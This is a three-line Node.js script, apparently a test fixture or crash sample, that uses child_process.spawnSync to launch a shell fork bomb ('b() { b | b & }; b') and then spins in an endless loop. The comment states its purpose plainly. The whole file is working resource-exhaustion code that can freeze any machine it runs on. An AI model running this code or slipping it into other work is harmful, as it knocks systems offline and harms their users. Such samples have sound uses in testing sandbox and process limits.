// A shell fork bomb; node waits for its output pipe, which the bomb's processes keep open.
require('child_process').spawnSync('/bin/sh', ['-c', 'b() { b | b & }; b']);
for (;;) {}
